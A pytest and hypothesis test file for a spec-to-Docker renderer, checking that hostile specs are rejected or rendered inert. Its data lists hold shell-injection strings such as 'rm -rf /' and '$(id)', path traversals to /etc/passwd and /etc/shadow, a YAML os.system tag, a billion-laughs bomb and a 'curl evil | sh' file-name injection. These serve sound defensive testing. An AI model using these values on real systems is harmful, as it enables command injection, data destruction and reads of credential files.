"""Hostile input: whatever a spec holds, devbox renders inert output or reports a SpecError.

Three layers, each against what the issue asks:

* property tests (hypothesis) feed random and adversarial specs to the pure path (build_spec +
  render_project) and to the CLI (`devbox render` on a spec file): the result is valid output or a
  SpecError (exit 2, one line per problem, each naming the spec file), never another exception, and
  never a file outside the output folder;
* targeted injection attempts (shell, Dockerfile and YAML metacharacters, ``../``, newlines, NUL)
  are rejected with the spec path that holds them;
* rendered files are read back: the compose file parses to exactly the services and values given
  (tests/tools/test_compose_config.py also reads them through ``docker compose config``), and
  nothing from the spec reaches a shell unquoted.

The hypothesis runs are derandomized and keep no example database, so CI sees the same examples
on every run; the whole file runs in well under 20 seconds.
"""

from __future__ import annotations

import copy
import dataclasses
import re
import tempfile
from pathlib import Path, PurePosixPath
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import devbox.spec.fields as spec_fields
import devbox.spec.values as spec_values
from devbox.cli import cli
from devbox.errors import SpecError, UsageError
from devbox.render import (
    COMPOSE_FILE,
    RenderedFile,
    image_packages,
    own_packages,
    render_dockerfile,
    render_entrypoint,
    render_project,
)
from devbox.spec import HOST_ONLY, HOST_SETTINGS, IMAGE_KEYS, NETWORK_KEYS, TOP_KEYS, Spec, build_spec, parse_yaml
from devbox.state import write_files

from .helpers import fake_material, spec_data, with_value

HYPOTHESIS = settings(
    max_examples=200,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much],
)

# --------------------------------------------------------------------------- what hostile looks like

METACHARACTERS = ";$`\"'\\|&><*?~{}[]#!% \t\n\r\x00"
NASTY = (
    "", " ", "..", "../", "../../etc/passwd", "../../../../tmp/pwned", "/", "~", "~root", "./", ".",
    "$(id)", "`id`", "${HOME}", "$HOME", "$$", "${X:-y}", "a; rm -rf /", "vim; rm -rf /", "a && id", "a || id",
    "a | sh", "a > /etc/passwd", "a\nRUN evil", "a\r\nRUN evil", "x\x00y", "\x00", "\n", "a\n", "\u2028", "\x85",
    "\x1b[31mred", "é", "🐍", "'", '"', "\\", "a\\", "' ; id ; '", '" ; id ; "', "- item", "key: value",
    "{a: b}", "[1, 2]", "&anchor", "*alias", "!!python/object/apply:os.system ['id']", "---", "...", "# c",
    "%TAG", "@", "null", "yes", "no", "on", "off", "true", "0x1F", "0o17", "1e3", "1e999", "-1", "0",
    "4294967296", "99999999999999999999999", "nan", ".inf", "²", "٣", "A" * 5000, "a" * 70, "1" * 5000,
    "/" * 300, "a/" * 2100, "a:b:c", "/x:/y:rw", "data:/data/../etc", "GPU-", "on-failure:²", "0-3,\n",
    "::1%]:9:22", "/dev/../etc/shadow", "ssh-ed25519 AAAA a\u2028ssh-ed25519 BBBB",
)  # fmt: skip
GOOD = (
    "lab", "developer", "vim", "debian:bookworm", "UTC", "Europe/Berlin", "4432", "16g", "2.5", "data:/data",
    "/data", "0", "all", "0-3", "SYS_PTRACE", "host", "always", "127.0.0.1", "0.0.0.0", "net",  # noqa: S104 - spec text, not a bind
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGood me@x", "HOME", "compute", "/dev/null",
)  # fmt: skip

nasty_text = st.one_of(
    st.sampled_from(NASTY),
    st.text(alphabet=METACHARACTERS + "aZ09./-_:", max_size=20),
    st.text(max_size=20),
    st.builds(lambda good, bad: good + bad, st.sampled_from(GOOD), st.sampled_from(NASTY)),
)
scalars = st.one_of(
    nasty_text,
    st.sampled_from(GOOD),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(),
    st.booleans(),
    st.none(),
)


def _near_miss(key: str, how: int) -> str:
    """A key that almost names a known one: a letter lost, doubled, upper-cased, or an s added."""
    if how == 0:
        return key[:-1]
    if how == 1:
        return key + key[-1]
    if how == 2:
        return key.upper()
    return key + "s"


KNOWN_KEYS = sorted({*TOP_KEYS, *NETWORK_KEYS, *IMAGE_KEYS, *HOST_SETTINGS, *HOST_ONLY, "cpus", "memory"})
keys = st.one_of(
    st.sampled_from(KNOWN_KEYS),
    st.builds(_near_miss, st.sampled_from(KNOWN_KEYS), st.integers(0, 3)),
    nasty_text,
    st.integers(-5, 5),
    st.booleans(),
    st.none(),
)
yamlish = st.recursive(
    scalars,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(keys, children, max_size=4),
    max_leaves=12,
)
values = st.one_of(
    scalars,
    yamlish,
    st.lists(nasty_text, min_size=1, max_size=3),
    st.dictionaries(nasty_text, nasty_text, max_size=3),
    # values that pass validation, so their rendering is checked too
    st.sampled_from(GOOD),
    st.dictionaries(st.from_regex(r"[A-Z_][A-Z0-9_]{0,8}", fullmatch=True), nasty_text, max_size=3),
)

VALID: dict[str, Any] = {
    "version": 1,
    "project": "lab",
    "network": {"name": "net"},
    "image": {"base": "debian:bookworm", "packages": ["vim"], "user": "developer", "timezone": "UTC"},
    "defaults": {"limits": {"cpus": 2, "memory": "4g"}, "environment": {"GREETING": "hi"}},
    "hosts": {"master": {"ssh_port": 4432, "volumes": ["data:/data"]}, "worker": {"ssh_port": 4433}},
}
ANY = object()  # a slot whose key is drawn too
SLOTS: list[tuple[Any, ...]] = [
    (ANY,), ("project",), ("version",), ("gpu",), ("hosts",), ("defaults",), ("image",), ("network",),
    *[("network", key) for key in (*NETWORK_KEYS, ANY)],
    *[("image", key) for key in (*IMAGE_KEYS, ANY)],
    *[("defaults", key) for key in (*HOST_SETTINGS, ANY)],
    *[("hosts", "master", key) for key in (*HOST_SETTINGS, *HOST_ONLY, ANY)],
    ("hosts", ANY), ("hosts", ANY, "ssh_port"),
    ("hosts", "master", "environment", ANY), ("defaults", "environment", ANY),
    ("hosts", "master", "limits", ANY), ("hosts", "master", "ulimits", ANY),
    ("hosts", "master", "password_env", ANY), ("image", "packages", 0), ("hosts", "master", "volumes", 0),
]  # fmt: skip


@st.composite
def hostile_specs(draw: st.DrawFn) -> Any:
    """Mostly a valid spec with one to four slots overwritten (or removed); sometimes pure noise."""
    if draw(st.integers(0, 9)) == 0:
        return draw(yamlish)
    data = copy.deepcopy(VALID)
    for _ in range(draw(st.sampled_from((1, 1, 1, 2, 3, 4)))):
        slot = [draw(keys) if key is ANY else key for key in draw(st.sampled_from(SLOTS))]
        node: Any = data
        for key in slot[:-1]:
            if not isinstance(node.get(key), dict):
                node[key] = {}
            node = node[key]
        last = slot[-1]
        if isinstance(last, int) and not isinstance(last, bool) and isinstance(node, list):
            node[last : last + 1] = [draw(values)]
        elif draw(st.integers(0, 7)) == 0:
            node.pop(last, None)
        else:
            node[last] = draw(values)
    return data


def _matching(pattern: re.Pattern[str]) -> st.SearchStrategy[str]:
    return st.from_regex(pattern, fullmatch=True)


ONE_LINE_TEXT = st.one_of(nasty_text, st.text()).filter(lambda v: not {"\n", "\r", "\x00"} & set(v))


@st.composite
def accepted_specs(draw: st.DrawFn) -> dict[str, Any]:
    """Specs built from the most awkward values validation lets through, to check their rendering."""
    names = draw(st.lists(_matching(spec_fields.DNS_LABEL), min_size=1, max_size=3, unique=True))
    hosts = {}
    for port, name in enumerate(names, start=2000):
        volume = draw(_matching(spec_fields.VOLUME_NAME))
        hosts[name] = {
            "ssh_port": port,
            "hostname": f"h{port}",
            "environment": draw(st.dictionaries(_matching(spec_values.ENV_KEY), ONE_LINE_TEXT, max_size=4)),
            "volumes": [
                f"{volume}:/mnt/{volume}",
                {"source": volume + "x", "target": "/" + draw(ONE_LINE_TEXT).replace(":", "")},
            ],
            "authorized_keys": ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 " + draw(ONE_LINE_TEXT)],
            "bind_address": draw(st.ip_addresses()).exploded,
        }
    return {
        "project": draw(_matching(spec_fields.PROJECT_NAME)),
        "network": {"name": draw(_matching(spec_fields.VOLUME_NAME))},
        "image": {
            "base": "debian:bookworm",
            "user": draw(_matching(spec_fields.USER_NAME)),
            "packages": draw(st.lists(_matching(spec_fields.PACKAGE), max_size=4)),
            "timezone": draw(_matching(spec_fields.TIMEZONE)),
            "shell": draw(st.sampled_from(["bash", "zsh"])),
            "docker_cli": draw(st.booleans()),
            "uid": draw(st.one_of(st.none(), st.integers(1, 2**31 - 2))),
        },
        "hosts": hosts,
    }


# --------------------------------------------------------------------------- what inert looks like

COMPOSE_TOP = {"name", "services", "networks", "volumes", "secrets"}
COMPOSE_SERVICE = {
    "build", "image", "pull_policy", "hostname", "restart", "volumes", "environment", "secrets", "deploy",
    "ports", "networks", "shm_size", "ulimits", "devices", "cap_add", "privileged", "ipc", "cpuset",
    "logging", "healthcheck", "labels",
}  # fmt: skip
OUTPUT_PATH = re.compile(
    r"Dockerfile|entrypoint\.sh|requirements\.txt|\.dockerignore|docker-compose\.yml|known_hosts"
    r"|secrets/[a-z0-9-]+/(passwords|sshd_config|authorized_keys|volumes)"
)
# What may reach a shell word unquoted: no expansion, globbing, quoting or separators (and no
# leading '~'). Debian versions may hold '~' inside, where no shell expands it.
SHELL_WORD = re.compile(r"[A-Za-z0-9_+.,:=/@-][A-Za-z0-9_+.,:=/@~-]*")
DOCKERFILE_INSTRUCTIONS = {"FROM", "ARG", "ENV", "SHELL", "RUN", "COPY", "EXPOSE", "ENTRYPOINT"}


def unescape(value: Any) -> Any:
    """Undo the renderer's ``$`` -> ``$$`` (as compose does), after checking no ``$`` is single."""
    if isinstance(value, str):
        assert "$" not in value.replace("$$", ""), f"unescaped $ in {value!r}"
        return value.replace("$$", "$")
    if isinstance(value, dict):
        return {unescape(k): unescape(v) for k, v in value.items()}
    if isinstance(value, list):
        return [unescape(item) for item in value]
    return value


def assert_problems_are_lines(error: SpecError) -> None:
    assert error.problems, "a SpecError must name at least one problem"
    for line in error.lines():
        assert line.startswith(f"{error.source}: ")
        assert line.isprintable() and len(line.splitlines()) == 1, repr(line)


def logical_lines(dockerfile: str) -> list[str]:
    """Dockerfile instructions with continuations joined, comments and blank lines dropped."""
    lines, current = [], ""
    for line in dockerfile.split("\n"):
        if not current and (not line.strip() or line.lstrip().startswith("#")):
            continue
        current += line
        if current.endswith("\\"):
            current = current[:-1]
            continue
        lines.append(current)
        current = ""
    assert current == "", "a continuation runs off the end of the Dockerfile"
    return lines


def baseline(spec: Spec) -> Spec:
    """The same spec with every free-text image value swapped for a tame one."""
    tame = dataclasses.replace(  # the spec's packages get a layer of their own only when there are any
        spec.image, base="debian:bookworm", timezone="UTC", packages=("vim",) if own_packages(spec) else (),
        user="u", extra_lines=(),
    )
    return dataclasses.replace(spec, image=tame, source="devbox.yaml")


def assert_inert(spec: Spec, files: list[RenderedFile]) -> None:
    """Every rendered file says only what the spec asked, in a form nothing can execute."""
    for file in files:
        path = PurePosixPath(file.path)
        assert not path.is_absolute() and ".." not in path.parts, file.path
        assert OUTPUT_PATH.fullmatch(file.path), file.path
    by_path = {file.path: file.content for file in files}

    compose = yaml.safe_load(by_path[COMPOSE_FILE])
    assert set(compose) <= COMPOSE_TOP
    assert list(compose["services"]) == [host.name for host in spec.hosts]
    for host in spec.hosts:
        service = unescape(compose["services"][host.name])
        assert set(service) <= COMPOSE_SERVICE, set(service) - COMPOSE_SERVICE
        assert service.get("environment", {}) == dict(host.environment)
        assert all(isinstance(value, str) for value in service.get("environment", {}).values())
        assert service["hostname"] == host.hostname
    assert compose["name"] == spec.project

    # The Dockerfile has the template's instructions and no others; extra_lines are the spec's own
    # escape hatch into the Dockerfile, so they are taken out before comparing.
    without_extras = dataclasses.replace(spec, image=dataclasses.replace(spec.image, extra_lines=()))
    ours = logical_lines(render_dockerfile(without_extras))
    tame = logical_lines(render_dockerfile(baseline(spec)))
    assert [line.split()[0] for line in ours] == [line.split()[0] for line in tame]
    assert {line.split()[0] for line in ours} <= DOCKERFILE_INSTRUCTIONS
    for word in (*image_packages(spec), spec.image.user, spec.image.timezone, spec.image.base):
        assert SHELL_WORD.fullmatch(word), word

    # The entrypoint: only the user name (a shell-safe word) and the spec's file name (in a comment)
    # come from the spec.
    entrypoint = render_entrypoint(spec).split("\n")
    assert entrypoint[1].startswith("# Rendered by devbox from ")
    assert SHELL_WORD.fullmatch(spec.image.user)
    tame_entrypoint = render_entrypoint(baseline(spec)).split("\n")
    assert entrypoint[2:] == [f"user={spec.image.user}" if line == "user=u" else line for line in tame_entrypoint[2:]]


# --------------------------------------------------------------------------- property tests


def assert_valid_and_inert_or_rejected(data: Any) -> None:
    """Either a SpecError of clean one-line problems, or a spec whose every rendered file is inert."""
    try:
        spec = build_spec(data, Path("/nonexistent-devbox-dir"))
    except SpecError as error:
        assert_problems_are_lines(error)
        return
    assert_inert(spec, render_project(spec, fake_material(spec)).files)


@HYPOTHESIS
@given(hostile_specs())
def test_any_spec_renders_inert_output_or_raises_a_spec_error(data):
    assert_valid_and_inert_or_rejected(data)


@settings(HYPOTHESIS, max_examples=120)
@given(accepted_specs())
def test_the_most_awkward_accepted_values_render_inert(data):
    # rarely rejected: e.g. a drawn volume target that is not a clean path
    assert_valid_and_inert_or_rejected(data)


@HYPOTHESIS
@given(st.text(alphabet=st.sampled_from(list(":-[]{},&*!|>'\"%@`#? \n\t\\~$;.0a\x85\u2028")), max_size=80))
def test_any_text_parses_or_raises_a_spec_error(text):
    try:
        data = parse_yaml(text, "devbox.yaml")
    except SpecError as error:
        assert_problems_are_lines(error)
        return
    assert_valid_and_inert_or_rejected(data)


# Rendering many specs: the fewest password-hash rounds (the fixture is in tests/conftest.py).
pytestmark = pytest.mark.usefixtures("fast_hashes")


def files_below(root: Path) -> set[Path]:
    return {path for path in root.rglob("*") if path.is_file() or path.is_symlink()}


@st.composite
def spec_texts(draw: st.DrawFn) -> str:
    """A spec file: hostile data dumped as YAML, sometimes with a hostile line spliced in."""
    text = yaml.safe_dump(draw(hostile_specs()), allow_unicode=draw(st.booleans()), sort_keys=False)
    if draw(st.integers(0, 3)) == 0:
        lines = text.split("\n")
        at = draw(st.integers(0, len(lines)))
        lines.insert(at, draw(st.sampled_from(NASTY)) + draw(st.sampled_from(("", ":", ": x", ": [", ": &a"))))
        text = "\n".join(lines)
    return text


@HYPOTHESIS
@given(spec_texts())
def test_cli_render_exits_0_or_2_and_writes_only_into_the_output_folder(text):
    with tempfile.TemporaryDirectory() as temp:
        root = Path(temp)
        work = root / "project"
        work.mkdir()
        spec_file = work / "devbox.yaml"
        spec_file.write_text(text, encoding="utf-8")
        result = CliRunner().invoke(
            cli, ["-f", str(spec_file), "render"], env={"DEVBOX_OUT": None, "DEVBOX_FILE": None}
        )
        output = result.output
        assert "Traceback" not in output
        assert result.exit_code in (0, 2), (result.exit_code, output, result.exception)
        assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
        if result.exit_code == 2:
            assert result.stderr.strip(), "exit 2 without saying why"
            for line in result.stderr.splitlines():
                assert line.startswith(f"error: {spec_file}: "), line
        else:
            assert "error:" not in result.stderr
        created = files_below(root)
        outside = {p for p in created if p != spec_file and (work / ".devbox") not in p.parents}
        assert not outside, f"written outside the output folder: {outside}"
        if result.exit_code == 2:
            assert created == {spec_file}, "a rejected spec must not write anything"


# --------------------------------------------------------------------------- injection attempts


def problems_of(data: dict[str, Any], directory: Path = Path("/nonexistent-devbox-dir")) -> list[str]:
    with pytest.raises(SpecError) as info:
        build_spec(data, directory)
    assert_problems_are_lines(info.value)
    return info.value.problems


SHELL_ATTEMPTS = ("vim; rm -rf /", "$(id)", "`id`", "a\nRUN evil", "vim\n", "a && id", "a|sh", "'a'", "../x", "a b")


@pytest.mark.parametrize("attempt", SHELL_ATTEMPTS, ids=repr)
@pytest.mark.parametrize(
    ("path", "wrap", "reported"),
    [
        (("image", "packages"), lambda v: ["vim", v], "image.packages[1]"),
        (("image", "user"), lambda v: v, "image.user"),
        (("image", "base"), lambda v: f"debian:bookworm{v}", "image.base"),
        (("image", "timezone"), lambda v: f"UTC{v}", "image.timezone"),
        (("project",), lambda v: f"lab{v}", "project"),
        (("network", "name"), lambda v: f"net{v}", "network.name"),
        (("hosts", "master", "hostname"), lambda v: f"m{v}", "hosts.master.hostname"),
        (("hosts", "master", "volumes"), lambda v: [f"data{v}:/data"], "hosts.master.volumes[0]"),
        (("hosts", "master", "cpuset"), lambda v: f"0{v}", "hosts.master.cpuset"),
    ],
    ids=lambda v: v if isinstance(v, str) else "",
)  # fmt: skip
def test_shell_and_dockerfile_injection_is_rejected_at_its_path(path, wrap, reported, attempt):
    problems = problems_of(with_value(path, wrap(attempt)))
    assert any(p.startswith(f"{reported}: ") for p in problems), problems


@pytest.mark.parametrize(
    ("path", "value", "reported"),
    [
        (("image", "packages"), ["vim=~root"], "image.packages[0]"),  # bash expands ~ after '='
        (("image", "packages"), ["vim=1:~root"], "image.packages[0]"),
        (("image", "user"), "root", "image.user"),
        (("image", "extra_lines"), ["RUN true\nRUN evil"], "image.extra_lines[0]"),
        (("image", "shell"), "sh -c id", "image.shell"),
        (("image", "uid"), "1000; id", "image.uid"),
        (("image", "uid"), "²", "image.uid"),
        (("hosts", "master", "ssh_port"), "²", "hosts.master.ssh_port"),
        (("hosts", "master", "ssh_port"), "1" * 5000, "hosts.master.ssh_port"),
        (("hosts", "master", "limits"), {"memory": "1" * 5000 + "g"}, "hosts.master.limits.memory"),
        (("hosts", "master", "limits"), {"cpus": 10**400}, "hosts.master.limits.cpus"),
        (("hosts", "master", "cpuset"), "1" * 5000, "hosts.master.cpuset"),
        (("hosts", "master", "restart"), "on-failure:²", "hosts.master.restart"),
        (("hosts", "master", "gpus"), ["²"], "hosts.master.gpus[0]"),
        (("hosts", "master", "bind_address"), "::1%]:9:22", "hosts.master.bind_address"),
        (("hosts", "master", "bind_address"), "::1%eth0\nx", "hosts.master.bind_address"),
        (("hosts", "master", "environment"), {"A B": "x"}, "hosts.master.environment.A B"),
        (("hosts", "master", "environment"), {"A=B": "x"}, "hosts.master.environment.A=B"),
        (("hosts", "master", "environment"), {"$(id)": "x"}, "hosts.master.environment.$(id)"),
        (("hosts", "master", "environment"), {"A\n": "x"}, "hosts.master.environment.'A\\n'"),
        (("hosts", "master", "environment"), {"A": "x\ny"}, "hosts.master.environment.A"),
        (("hosts", "master", "environment"), {"A": "x\x00y"}, "hosts.master.environment.A"),
        (("hosts", "master", "environment"), {"A": "x\ry"}, "hosts.master.environment.A"),
        (("hosts", "master", "password_env"), {"bad;user": "PW"}, "hosts.master.password_env.bad;user"),
        (("hosts", "master", "password_env"), {"developer": "$(id)"}, "hosts.master.password_env.developer"),
        (("hosts", "master", "volumes"), ["data:/data/../etc"], "hosts.master.volumes[0]"),
        (("hosts", "master", "volumes"), ["data:relative"], "hosts.master.volumes[0]"),
        (("hosts", "master", "volumes"), [{"source": "data", "target": "/x:/y"}], "hosts.master.volumes[0]"),
        (("hosts", "master", "volumes"), [{"source": "data", "target": "/a\nb"}], "hosts.master.volumes[0]"),
        (("hosts", "master", "volumes"), [{"source": "/tmp\x00x", "target": "/x"}], "hosts.master.volumes[0]"),
        (("hosts", "master", "volumes"), ["/" + "a" * 5000 + ":/x"], "hosts.master.volumes[0]"),
        (("hosts", "master", "devices"), ["/dev/../etc/shadow"], "hosts.master.devices[0]"),
        (("hosts", "master", "authorized_keys"), ["ssh-ed25519 AAAA a\u2028ssh-ed25519 BBBB"],
         "hosts.master.authorized_keys[0]"),
        (("hosts", "master", "authorized_keys"), ["/etc/passwd\x00"], "hosts.master.authorized_keys[0]"),
        (("image", "pip_requirements"), "x" * 5000, "image.pip_requirements"),
    ],
    ids=lambda v: repr(v)[:40] if not isinstance(v, tuple) else "",
)  # fmt: skip
def test_hostile_values_are_rejected_at_their_path(path, value, reported):
    problems = problems_of(with_value(path, value))
    assert any(p.startswith(f"{reported}: ") for p in problems), problems


@pytest.mark.parametrize("name", ["../evil", "..", "a/b", "/abs", "a\n", "$(id)", "a b", "-a", "A", "a" * 64])
def test_hostile_host_names_are_rejected_and_nothing_is_written(tmp_path, name):
    data = spec_data(hosts={name: {"ssh_port": 2222}})
    problems = problems_of(data)
    assert any(p.startswith("hosts.") and "invalid host name" in p for p in problems), problems
    spec_file = tmp_path / "project" / "devbox.yaml"
    spec_file.parent.mkdir()
    spec_file.write_text(yaml.safe_dump(data), encoding="utf-8")
    result = CliRunner().invoke(cli, ["-f", str(spec_file), "render"], env={"DEVBOX_OUT": None})
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert files_below(tmp_path) == {spec_file}


def test_a_binary_requirements_file_is_a_spec_error(tmp_path):
    (tmp_path / "requirements.txt").write_bytes(b"\xff\xfe\x00binary")
    data = with_value(("image", "pip_requirements"), "requirements.txt")
    problems = problems_of(data, tmp_path)
    assert any(p.startswith("image.pip_requirements: ") for p in problems), problems


def test_keys_with_line_breaks_stay_on_one_line():
    problems = problems_of(spec_data(hosts={"master": {"ssh_port": 1, "x\nerror: fake": 1}}))
    assert problems == [
        "hosts.master.'x\\nerror: fake': unknown key (known keys: " + ", ".join((*HOST_SETTINGS, *HOST_ONLY)) + ")"
    ]


def test_writes_outside_the_output_folder_are_refused(tmp_path):
    out = tmp_path / "out"
    for path in ("../evil", "secrets/../../evil", "/tmp/evil"):
        with pytest.raises(UsageError):
            write_files(out, [RenderedFile(path, "x")])
    assert not (tmp_path / "evil").exists() and files_below(tmp_path) == set()


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("a: &a [x, x, x, x, x, x, x, x, x, x]\n"
         + "".join(f"{n}: &{n} [{', '.join([f'*{p}'] * 10)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True))
         + "project: *i\n", "too large once its aliases are expanded"),
        ("[" * 3000 + "]" * 3000, "nested too deeply"),
        ("project: " + "1" * 5000, "not valid YAML"),
        ("? [1]\n: 2\n", "unhashable key"),
        ("? {a: 1}\n: 2\n", "unhashable key"),
        ("project: !!python/object/apply:os.system ['touch /tmp/devbox-pwned']\n", "could not determine a constructor"),
        ("project: a\nproject: b\n", "duplicate key 'project'"),
        ("a: *nope\n", "undefined alias"),
        ("\x00", "special characters are not allowed"),
    ],
    ids=["billion-laughs", "deep-nesting", "5000-digits", "list-key", "mapping-key", "python-tag", "duplicate-key",
         "undefined-alias", "nul"],
)  # fmt: skip
def test_yaml_bombs_and_tricks_are_spec_errors(text, message):
    with pytest.raises(SpecError) as info:
        parse_yaml(text, "devbox.yaml")
    assert_problems_are_lines(info.value)
    assert any(message in problem for problem in info.value.problems), info.value.problems
    assert not Path("/tmp/devbox-pwned").exists()


# --------------------------------------------------------------------------- reading the output back

NASTY_VALUES = (
    "$HOME", "${X}", "${X:-default}", "${X?err}", "$$", "$", "a$", "$$$", "`id`", "$(id)", "; rm -rf /",
    "a'b\"c\\d", "# not a comment", "key: value", "- item", "{a: b}", "[1]", "&a", "*a", "!!binary AAAA",
    "!!python/object/apply:os.system ['id']", "---", "...", "null", "~", "yes", "no", "on", "off", "true",
    "0x1F", "1e3", "0o17", "0b101", "1_000", ".inf", ".nan", "-.5", "+1", "017", " lead", "trail ", "\ttab",
    "\x85nel", "\u2028ls", "\u2029ps", "\x1b[31m", "\x7f", "é🐍", "", "'", '"', "\\", "%s", "{{ x }}",
    "<script>", "a|b&c>d<e", "services:\n  evil: {}", "x\n", "a" * 3000,
)  # fmt: skip
ONE_LINE_VALUES = tuple(value for value in NASTY_VALUES if not {"\n", "\r", "\x00"} & set(value))


def nasty_env_spec(directory: Path = Path("/nonexistent-devbox-dir")) -> tuple[Spec, dict[str, str]]:
    env = {f"V{i}": value for i, value in enumerate(ONE_LINE_VALUES)}
    # Host and network names YAML 1.2 reads as numbers must stay names too.
    data = spec_data(
        network={"name": "1e3"},
        hosts={"master": {"ssh_port": 4432, "environment": env}, "0x10": {"ssh_port": 4433, "environment": env}},
    )
    return build_spec(data, directory), env


def test_multi_line_values_are_rejected():
    for value in set(NASTY_VALUES) - set(ONE_LINE_VALUES):
        problems = problems_of(with_value(("hosts", "master", "environment"), {"V": value}))
        assert problems == ["hosts.master.environment.V: must be one line (no newline or NUL characters)"]


def test_environment_values_come_back_exactly_from_the_compose_file():
    spec, env = nasty_env_spec()
    files = render_project(spec, fake_material(spec)).files
    assert_inert(spec, files)
    compose = yaml.safe_load(next(f.content for f in files if f.path == COMPOSE_FILE))
    assert list(compose["services"]) == ["master", "0x10"]
    assert list(compose["networks"]) == ["1e3"]
    for name in ("master", "0x10"):
        assert unescape(compose["services"][name]["environment"]) == env


@HYPOTHESIS
@given(
    st.dictionaries(
        st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,10}", fullmatch=True),
        st.one_of(st.text(), st.sampled_from(ONE_LINE_VALUES)).filter(lambda v: not {"\n", "\r", "\x00"} & set(v)),
        max_size=6,
    )
)
def test_random_environment_values_round_trip(env):
    spec = build_spec(spec_data(hosts={"a": {"ssh_port": 1, "environment": env}}), Path("/nonexistent-devbox-dir"))
    files = render_project(spec, fake_material(spec)).files
    assert_inert(spec, files)
    compose = yaml.safe_load(next(f.content for f in files if f.path == COMPOSE_FILE))
    assert unescape(compose["services"]["a"].get("environment", {})) == env


def test_spec_file_names_cannot_inject_lines(tmp_path):
    hostile = "devbox\nRUN curl evil | sh\nservices: {pwn: {image: evil}}\n#.yaml"
    spec = build_spec(spec_data(), tmp_path, source=str(tmp_path / hostile))
    files = {f.path: f.content for f in render_project(spec, fake_material(spec)).files}
    assert not any(line.startswith("RUN curl") for line in files["Dockerfile"].split("\n"))
    assert not any(line.startswith(("RUN", "services")) for line in files["entrypoint.sh"].split("\n"))
    assert set(yaml.safe_load(files[COMPOSE_FILE])["services"]) == {"master", "worker"}
    header = files[COMPOSE_FILE].split("\n")[:2]
    assert all(line.startswith("# ") for line in header)
